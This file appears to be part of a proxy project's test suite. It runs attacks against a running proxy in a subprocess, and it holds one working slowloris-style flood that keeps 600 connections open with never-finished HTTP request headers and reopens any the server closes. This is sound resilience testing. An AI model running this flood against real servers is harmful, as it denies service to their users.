"""Attacks on a running proxy, each a program of its own.

    python -m tests.proxy.attacks NAME WHERE

It goes on until it is killed, and gives up its rights first if the attack needs none.
"""

from __future__ import annotations

import os
import resource
import select
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Final

NOBODY: Final = 65534
HELD: Final = 600
"""The connections that a flood holds: more than there are places."""


def become_nobody() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


def half_requests(where: str) -> None:
    """Hold requests whose heads never end, and open another for each that is closed."""
    become_nobody()
    host, _, port = where.rpartition(":")
    poll = select.epoll()
    held: dict[int, socket.socket] = {}
    while True:
        while len(held) < HELD:
            sock = socket.socket()
            sock.settimeout(1.0)
            try:
                sock.connect((host, int(port)))
                sock.send(b"GET /progress/x HTTP/1.1\r\nHost: ")
            except OSError:
                sock.close()
                break
            held[sock.fileno()] = sock
            poll.register(sock, select.EPOLLIN)
        for number, _ in poll.poll(0.1):
            sock = held.pop(number)
            poll.unregister(sock)
            sock.close()


ATTACKS: Final[dict[str, Callable[[str], None]]] = {
    function.__name__.replace("_", "-"): function for function in (half_requests,)
}


@contextmanager
def attack(name: str, where: str) -> Iterator[subprocess.Popen[bytes]]:
    """Run an attack beside what is done meanwhile."""
    with subprocess.Popen(
        [sys.executable, "-m", __name__, name, where],
        cwd=Path(__file__).parent.parent.parent,
        stdin=subprocess.DEVNULL,
    ) as process:
        try:
            yield process
            assert process.poll() is None, "the attack has ended"
        finally:
            process.kill()


def main() -> None:
    """Attack."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)
    with suppress(ValueError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    name, where = sys.argv[1:]
    ATTACKS[name](where)


if __name__ == "__main__":
    main()
